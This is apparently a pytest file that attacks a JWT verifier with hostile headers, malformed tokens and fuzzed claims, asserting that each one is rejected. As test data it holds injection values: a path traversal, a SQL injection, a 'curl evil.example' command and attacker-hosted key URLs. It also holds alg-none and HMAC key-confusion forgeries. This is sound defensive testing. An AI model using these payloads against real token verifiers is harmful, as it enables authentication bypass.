"""Attacks on verifiers of tokens: none of them proves anybody."""

from __future__ import annotations

import hmac
import json
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from hypothesis import given
from hypothesis import strategies as st

from headrace.auth.tokens.key_sets import decoded
from headrace.auth.tokens.verifying import BadToken
from tests.auth.signing import (
    ALL,
    AT,
    SHOP,
    claims,
    encoded,
    encoded_json,
    private_key,
    public_jwk,
    reason,
    signed,
    token,
    verifier,
)

# Headers

HEADERS: list[tuple[str, dict[str, Any], str]] = [
    ("no type", {"typ": None}, "type"),
    ("type of an ID token", {"typ": "id_token"}, "type"),
    ("type of a sign-out", {"typ": "logout+jwt"}, "type"),
    ("type of a proof", {"typ": "dpop+jwt"}, "type"),
    ("type that is a list", {"typ": ["at+jwt"]}, "type"),
    ("type with a space", {"typ": "JWT "}, "type"),
    ("type that is empty", {"typ": ""}, "type"),
    ("no kid", {"kid": None}, "kid"),
    ("kid that is a path", {"kid": "../../../../dev/null"}, "kid"),
    ("kid that is a file", {"kid": "/proc/sys/kernel/randomize_va_space"}, "kid"),
    ("kid that is a query", {"kid": "x' UNION SELECT 'key' --"}, "kid"),
    ("kid that is a command", {"kid": "x; curl evil.example"}, "kid"),
    ("kid that is a URL", {"kid": "https://evil.example/key"}, "kid"),
    ("kid that is too long", {"kid": "k" * 129}, "kid"),
    ("kid that is a number", {"kid": 1}, "kid"),
    ("kid that is a list", {"kid": ["ES256"]}, "kid"),
    ("kid with a zero byte", {"kid": "ES256\x00"}, "kid"),
    ("kid that is empty", {"kid": ""}, "kid"),
    ("kid that nobody knows", {"kid": "unknown"}, "key"),
    ("kid of another kind of key", {"kid": "RS256"}, "algorithm"),
    ("kid of another curve", {"kid": "ES384"}, "algorithm"),
    ("address of keys", {"jku": "https://evil.example/keys"}, "header"),
    ("address of its own issuer's keys", {"jku": SHOP.url + "/keys"}, "header"),
    ("key of its own", {"jwk": public_jwk(private_key("ES256"), "ES256")}, "header"),
    ("address of certificates", {"x5u": "https://evil.example/chain"}, "header"),
    ("certificates of its own", {"x5c": ["MIIB"]}, "header"),
    ("critical extension", {"crit": ["exp"], "exp": AT + 600}, "header"),
    ("critical nothing", {"crit": []}, "header"),
    ("payload that is not encoded", {"b64": False, "crit": ["b64"]}, "header"),
    ("payload that is encoded", {"b64": True}, "header"),
    ("nested token", {"cty": "JWT"}, "header"),
    ("encrypted token", {"enc": "A256GCM"}, "header"),
    ("compressed token", {"zip": "DEF"}, "header"),
    ("alg none", {"alg": "none"}, "algorithm"),
    ("alg None", {"alg": "None"}, "algorithm"),
    ("alg nOnE", {"alg": "nOnE"}, "algorithm"),
    ("alg HS256", {"alg": "HS256"}, "algorithm"),
    ("alg in small letters", {"alg": "es256"}, "algorithm"),
    ("alg with a space", {"alg": "ES256 "}, "algorithm"),
    ("alg of another curve", {"alg": "ES384"}, "algorithm"),
    ("alg of an old curve", {"alg": "ES256K"}, "algorithm"),
    ("alg that is empty", {"alg": ""}, "algorithm"),
    ("alg that is null", {"alg": None}, "algorithm"),
    ("alg that is a list", {"alg": ["ES256"]}, "algorithm"),
    ("alg that is a number", {"alg": 256}, "algorithm"),
    ("alg that is true", {"alg": True}, "algorithm"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("changes", "said"), [it[1:] for it in HEADERS], ids=[it[0] for it in HEADERS]
)
def test_headers_that_prove_nobody(changes: dict[str, Any], said: str) -> None:
    assert reason(token(**changes)) == said


@pytest.mark.parametrize("name", ["none", "None", "NONE", "nOnE"])
@pytest.mark.parametrize("signature", ["", "AAAA"])
def test_no_signature_proves_nobody(name: str, signature: str) -> None:
    header = encoded_json({"typ": "at+jwt", "alg": name, "kid": "ES256"})
    text = f"{header}.{encoded_json(claims())}.{signature}"
    assert reason(text) == ("algorithm" if signature else "form")


@pytest.mark.parametrize("bits", [256, 384, 512])
@pytest.mark.parametrize("kid", ["RS256", "ES256", "EdDSA"])
@pytest.mark.parametrize("form", ["pem", "jwk", "raw"])
def test_a_public_key_is_no_secret(bits: int, kid: str, form: str) -> None:
    """The attack that took public keys, which everybody has, for secrets of HMAC."""
    key: Any = private_key(kid)
    pem = key.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    jwk = public_jwk(key, kid)
    secret = {"pem": pem, "jwk": json.dumps(jwk).encode(), "raw": str(jwk.get("n")).encode()}[form]
    text = f"{encoded_json({'typ': 'at+jwt', 'alg': f'HS{bits}', 'kid': kid})}."
    text += encoded_json(claims())
    made = hmac.digest(secret, text.encode(), f"sha{bits}")
    assert reason(f"{text}.{encoded(made)}") == "algorithm"


def test_an_algorithm_that_the_issuer_may_not_use_proves_nobody() -> None:
    narrow = replace(SHOP, algorithms=("ES256",))
    assert verifier(narrow).verify(token()).id == "corp|anna"
    assert reason(token(algorithm="RS256"), narrow) == "algorithm"


# Signatures and forms


def in_parts(text: str) -> list[str]:
    return text.split(".")


def flipped(text: str, part: int, at: int = 3) -> str:
    """One bit of one part turned over."""
    parts = in_parts(text)
    raw = bytearray(decoded(parts[part]))
    raw[at] ^= 1
    parts[part] = encoded(bytes(raw))
    return ".".join(parts)


def with_part(part: int, value: str) -> Callable[[], str]:
    def change() -> str:
        parts = in_parts(token())
        parts[part] = value
        return ".".join(parts)

    return change


def raw(header: str, body: str | bytes) -> str:
    content = body if isinstance(body, bytes) else body.encode()
    return signed(encoded(header.encode()), encoded(content))


GOOD_HEADER = '{"typ":"at+jwt","alg":"ES256","kid":"ES256"}'
GOOD_BODY = json.dumps(claims())


def body_with(more: str) -> str:
    return raw(GOOD_HEADER, GOOD_BODY[:-1] + "," + more + "}")


FORMS: list[tuple[str, Callable[[], str], str]] = [
    ("empty", lambda: "", "form"),
    ("a word", lambda: "token", "form"),
    ("two parts", lambda: token().rpartition(".")[0], "form"),
    ("no signature", lambda: token().rpartition(".")[0] + ".", "form"),
    ("four parts", lambda: token() + ".AAAA", "form"),
    ("five parts, as when encrypted", lambda: token() + ".AAAA.AAAA", "form"),
    ("a space before", lambda: " " + token(), "form"),
    ("a space after", lambda: token() + " ", "form"),
    ("a line end after", lambda: token() + "\n", "form"),
    ("a zero byte after", lambda: token() + "\x00", "form"),
    ("a space inside", lambda: token().replace(".", ". ", 1), "form"),
    ("padding", lambda: token() + "=", "form"),
    ("plain base64", lambda: token().replace("-", "+").replace("_", "/") + "+", "form"),
    ("letters that are not ASCII", lambda: token() + "é", "form"),
    ("full-width letters", lambda: token().replace("e", "ｅ"), "form"),
    ("its prefix", lambda: "Bearer " + token(), "form"),
    ("too large", lambda: token(claims(pad="x" * 8192)), "size"),
    ("huge", lambda: "a" * 10_000_000, "size"),
    ("huge with dots", lambda: "." * 10_000_000, "size"),
    ("a header that is no base64", with_part(0, "a"), "json"),
    ("claims that are no base64", with_part(1, "a"), "json"),
    ("a signature that is no base64", with_part(2, "a"), "form"),
    ("a signature that is short", with_part(2, "AAAA"), "signature"),
    ("a signature of zeros", with_part(2, "A" * 86), "signature"),
    ("another spelling of the signature", lambda: respelt(token()), "form"),
    ("a bit of the header", lambda: flipped(token(), 0), "type"),
    ("a bit of the claims", lambda: flipped(token(), 1, 52), "signature"),
    ("a bit of the signature", lambda: flipped(token(), 2), "signature"),
    ("another key of the same name", lambda: token(number=1), "signature"),
    ("claims of another token", with_part(1, encoded_json(claims(sub="eve"))), "signature"),
    ("a signature in DER", lambda: as_der(token()), "signature"),
    ("the header in other letters", lambda: other_header(token()), "signature"),
    ("claims that are a list", lambda: raw(GOOD_HEADER, "[]"), "json"),
    ("claims that are a text", lambda: raw(GOOD_HEADER, '"anna"'), "json"),
    ("claims that are null", lambda: raw(GOOD_HEADER, "null"), "json"),
    ("claims that are another token", lambda: raw(GOOD_HEADER, token()), "json"),
    ("a header that is a list", lambda: raw("[]", GOOD_BODY), "json"),
    ("no JSON", lambda: raw(GOOD_HEADER, "{"), "json"),
    ("JSON and more", lambda: raw(GOOD_HEADER, GOOD_BODY + "{}"), "json"),
    ("a mark of the byte order", lambda: raw(GOOD_HEADER, "\ufeff" + GOOD_BODY), "json"),
    ("a comment", lambda: raw(GOOD_HEADER, GOOD_BODY + "//"), "json"),
    ("bytes that are not UTF-8", lambda: raw(GOOD_HEADER, b"\xff{}"), "json"),
    ("UTF-16", lambda: raw(GOOD_HEADER, GOOD_BODY.encode("utf-16")), "json"),
    ("a claim given twice", lambda: body_with('"sub": "eve"'), "json"),
    ("the issuer given twice", lambda: body_with(f'"iss": "{SHOP.url}"'), "json"),
    ("a member given twice inside", lambda: body_with('"a": [{"c": 1, "c": 2}]'), "json"),
    ("the same name by an escape", lambda: body_with('"\\u0073ub": "eve"'), "json"),
    ("two algorithms", lambda: raw(GOOD_HEADER[:-1] + ',"alg":"none"}', GOOD_BODY), "json"),
    ("NaN", lambda: body_with('"a": NaN'), "json"),
    ("Infinity", lambda: body_with('"a": -Infinity'), "json"),
    ("a number beyond all", lambda: body_with('"a": 1e999'), "json"),
    ("a number of too many digits", lambda: body_with('"a": ' + "9" * 5000), "json"),
    ("half a character", lambda: body_with('"a": "\\ud800"'), "json"),
    ("half a character in a name", lambda: body_with('"\\udfff": 1'), "json"),
    ("lists inside lists", lambda: body_with('"a": ' + "[" * 2500 + "]" * 2500), "json"),
    ("a control character", lambda: body_with('"a": "\n"'), "json"),
    ("exp beyond all", lambda: raw(GOOD_HEADER, GOOD_BODY.replace(str(AT + 600), "1e400")), "json"),
]  # fmt: skip


def respelt(text: str) -> str:
    """The same signature, with other bits where they do not count."""
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return text[:-1] + letters[letters.index(text[-1]) ^ 1]


def as_der(text: str) -> str:
    head, _, signature = text.rpartition(".")
    values = [int.from_bytes(half, "big") for half in halves(decoded(signature))]
    return f"{head}.{encoded(encode_dss_signature(*values))}"


def halves(value: bytes) -> tuple[bytes, bytes]:
    return value[:32], value[32:]


def other_header(text: str) -> str:
    header, rest = text.split(".", 1)
    members = json.loads(decoded(header))
    return f"{encoded(json.dumps(members, indent=1).encode())}.{rest}"


@pytest.mark.parametrize(("make", "said"), [it[1:] for it in FORMS], ids=[it[0] for it in FORMS])
def test_what_is_no_token_proves_nobody(make: Callable[[], str], said: str) -> None:
    assert reason(make()) == said


def test_every_bit_of_a_token_counts() -> None:
    text = token()
    trusting = verifier()
    for part in range(3):
        for at in range(len(decoded(in_parts(text)[part]))):
            with pytest.raises(BadToken):
                trusting.verify(flipped(text, part, at))


# Whatever comes

# Few letters, and the ones that go wrong: all of Unicode takes seconds to prepare.
_TEXT = st.text(alphabet="ab |.\n\x00\x7f\ud800é\U0001f600", max_size=8)
_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | _TEXT,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(_TEXT, inner, max_size=3),
    max_leaves=8,
)
_NAMES = st.sampled_from(
    ["iss", "aud", "sub", "exp", "iat", "nbf", "typ", "scope", "scp", "roles", "org", "nonce"]
)


@given(changes=st.dictionaries(_NAMES, _JSON, max_size=4), scheme=st.sampled_from(ALL))
def test_whatever_is_claimed_proves_somebody_or_nobody(
    changes: dict[str, object], scheme: str
) -> None:
    issuer = replace(SHOP, claims={"tenant": "org.id", "org": "org"})
    try:
        found = verifier(issuer).verify(token({**claims(), **changes}, scheme))
    except BadToken:
        return
    assert found.id.startswith("corp|")
    assert "admin" not in found.roles
    assert all(isinstance(it, str | int | float | bool | tuple) for it in found.claims.values())


@given(text=st.text(alphabet="eyJ.-_A=~ \x00é", max_size=60))
def test_whatever_is_sent_proves_nobody(text: str) -> None:
    assert reason(text) in {"form", "json"}


@given(header=_JSON, body=_JSON)
def test_whatever_is_signed_is_no_token_by_that(header: object, body: object) -> None:
    with pytest.raises(BadToken):
        verifier().verify(signed(encoded_json(header), encoded_json(body)))
